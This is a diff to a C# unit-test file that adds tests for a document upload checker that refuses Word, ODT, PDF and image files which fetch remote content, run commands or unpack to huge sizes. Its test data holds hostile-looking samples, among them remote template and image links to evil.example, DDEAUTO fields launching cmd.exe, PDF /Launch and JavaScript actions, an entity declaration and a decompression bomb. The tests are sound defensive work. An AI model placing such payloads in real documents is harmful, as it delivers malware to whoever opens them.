@@ -113,7 +113,7 @@ public sealed class DocumentTypeTests
 
     [Theory]
     [InlineData("word/vbaProject.bin", "x", "has macros")]
-    [InlineData("word/other.xml", "x", null)]
+    [InlineData("word/other.xml", "<x/>", null)]
     public async Task A_Word_document_with_macros_is_refused(string name, string text, string? why)
     {
         var fault = await LookAsync(Contents.Docx, Contents.Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<document/>"), (name, text)));
@@ -148,6 +148,104 @@ public sealed class DocumentTypeTests
     public async Task Text_that_is_none_to_its_end_is_refused(byte[] last) =>
         Assert.NotNull(await LookAsync("text/plain", [.. Enumerable.Repeat((byte)'x', 100_000), .. last]));
 
+    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+    [Theory]
+    [InlineData("attachedTemplate", "https://evil.example/t.dotm", "External", "fetches a template")]
+    [InlineData("attachedTemplate", @"file:///\\evil\share\t.dotm", "External", "fetches a template")]
+    [InlineData("attachedTemplate", "file://evil/share/t.dotm", "External", "fetches a template")]
+    [InlineData("attachedTemplate", "%68ttp://evil.example/t.dotm", "external", "fetches a template")]
+    [InlineData("attachedTemplate", @"file:///C:\Users\sw\Templates\Council%20letter.dotx", "External", null)]
+    [InlineData("image", "http://evil.example/pixel.png", "External", "fetches a template")]
+    [InlineData("image", "media/image1.png", "Internal", null)]
+    [InlineData("frame", "mhtml:http://evil.example/x", "External", "fetches a template")]
+    [InlineData("oleObject", "embeddings/oleObject1.bin", "Internal", "has other files or programs")]
+    [InlineData("oleObject", "http://evil.example/x.html!", "External", "has other files or programs")]
+    [InlineData("package", "embeddings/Book1.xlsm", "Internal", "has other files or programs")]
+    [InlineData("package", "embeddings/Microsoft_Excel_Worksheet.xlsx", "Internal", null)]
+    [InlineData("hyperlink", "https://www.gov.uk/guidance", "External", null)]
+    [InlineData("hyperlink", "mailto:team@council.example", "External", null)]
+    [InlineData("hyperlink", @"file:///\\council\share\plan.docx", "External", null)]
+    public async Task What_Word_would_fetch_or_start_by_itself_is_refused_and_links_are_not(string kind, string target, string mode, string? why)
+    {
+        var fault = await LookAsync(Contents.Docx, Word(("word/_rels/document.xml.rels", $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{Office}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>""")));
+
+        Assert.True(why is null ? fault is null : fault?.StartsWith(why, StringComparison.Ordinal) == true, fault);
+    }
+
+    [Theory]
+    [InlineData("DDEAUTO c:\\windows\\system32\\cmd.exe", false)]
+    [InlineData(" dde  excel x", false)]
+    [InlineData(" INCLUDEPICTURE \"http://evil.example/x.png\"", false)]
+    [InlineData(" HYPERLINK \"http://www.gov.uk\" ", true)]
+    [InlineData(" PAGE ", true)]
+    [InlineData(" DATE \\@ \"dd/MM/yyyy\" ", true)]
+    public async Task Fields_that_start_something_are_refused_also_in_pieces(string code, bool isTaken)
+    {
+        var (first, second) = (code[..3], code[3..]);
+        var document = $"""<w:document xmlns:w="w"><w:fldChar/><w:instrText xml:space="preserve">{first}</w:instrText><w:instrText xml:space="preserve">{System.Security.SecurityElement.Escape(second)}</w:instrText><w:fldChar/><w:t>DDE is an old word.</w:t></w:document>""";
+
+        Assert.Equal(isTaken, await LookAsync(Contents.Docx, Contents.Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", document))) is null);
+    }
+
+    [Fact]
+    public async Task A_part_that_declares_entities_is_damaged() =>
+        Assert.NotNull(await LookAsync(Contents.Docx, Contents.Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<!DOCTYPE d [<!ENTITY a 'aaaa'>]><d>&a;</d>"))));
+
+    [Theory]
+    [InlineData(21, false)]
+    [InlineData(5, true)]
+    public async Task A_document_that_unpacks_beyond_measure_is_refused(int megabytes, bool isTaken)
+    {
+        var fault = await LookAsync(Contents.Docx, Contents.Packed(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<document/>"), ("word/media/image1.bmp", new string('\0', megabytes * 1024 * 1024))));
+
+        Assert.True(isTaken ? fault is null : fault?.StartsWith("unpacks to far more", StringComparison.Ordinal) == true, fault);
+    }
+
+    [Theory]
+    [InlineData("<draw:image xlink:href=\"http://evil.example/x.png\"/>", "fetches a template")]
+    [InlineData("<draw:image xlink:href=\"Pictures/1.png\"/>", null)]
+    [InlineData("<text:a xlink:href=\"http://www.gov.uk\">link</text:a>", null)]
+    [InlineData("<draw:object-ole xlink:href=\"./Object 1\"/>", "has other files or programs")]
+    [InlineData("<script:event-listener/>", "has fields that start")]
+    public async Task What_a_text_document_would_fetch_or_start_by_itself_is_refused(string element, string? why)
+    {
+        var content = $"""<d xmlns:draw="draw" xmlns:text="text" xmlns:script="script" xmlns:xlink="http://www.w3.org/1999/xlink">{element}</d>""";
+
+        var fault = await LookAsync(Contents.Odt, Contents.Zip(("mimetype", Contents.Odt), ("content.xml", content), ("META-INF/manifest.xml", "<manifest/>")));
+
+        Assert.True(why is null ? fault is null : fault?.StartsWith(why, StringComparison.Ordinal) == true, fault);
+    }
+
+    [Theory]
+    [InlineData("3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /Type /EmbeddedFile >>\nendobj", "has other files")]
+    [InlineData("3 0 obj\n<< /OpenAction [1 0 R /Fit] >>\nendobj", null)]
+    [InlineData("3 0 obj\n<< /S /URI /URI (https://www.gov.uk) >>\nendobj", null)]
+    public async Task A_PDF_with_programs_or_files_in_it_is_refused(string addition, string? why)
+    {
+        foreach (var pdf in (byte[][])[Contents.PdfWith(addition), Contents.PdfWithPacked(addition)])
+        {
+            var fault = await LookAsync("application/pdf", pdf);
+            Assert.True(why is null ? fault is null : fault?.StartsWith(why, StringComparison.Ordinal) == true, fault);
+        }
+    }
+
+    [Theory]
+    [InlineData("/Filter [/ASCII85Decode /FlateDecode]")]
+    [InlineData("/Filter 9 0 R")]
+    [InlineData("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")]
+    public async Task Objects_of_a_PDF_that_are_packed_so_that_nobody_can_look_are_refused(string filter) =>
+        Assert.StartsWith("is protected or packed", await LookAsync("application/pdf", Contents.PdfWith($"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 {filter} /Length 4 >>\nstream\nabcd\nendstream\nendobj")), StringComparison.Ordinal);
+
+    [Theory]
+    [InlineData("image/png")]
+    [InlineData("image/jpeg")]
+    public async Task An_image_of_too_many_points_is_refused(string mediaType) =>
+        Assert.StartsWith("is an image of more than 256 million points", await LookAsync(mediaType, mediaType == "image/png" ? Contents.PngOf(60_000, 60_000) : Contents.JpegOf(65_000, 65_000)), StringComparison.Ordinal);
+
     [Fact]
     public void A_template_is_no_text_document() =>
         Assert.False(DocumentType.Of(Contents.Odt)!.Begins(Contents.Zip("mimetype", $"{Contents.Odt}-template")));
@@ -165,6 +263,8 @@ public sealed class DocumentTypeTests
     [InlineData(new byte[] { 0x41, 0xE9, 0x42 })]
     [InlineData(new byte[] { 0x1B, 0x5B, 0x32, 0x4A })]
     public void Bytes_that_are_no_text_are_refused(byte[] content) => Assert.False(DocumentType.Of("text/plain")!.Begins(content));
+
+    private static byte[] Word(params (string Name, string Content)[] more) => Contents.Zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<document/>"), .. more]);
 
     private static Task<string?> LookAsync(string mediaType, byte[] content) => DocumentType.Of(mediaType)!.Whole(new MemoryStream(content), default);
 }
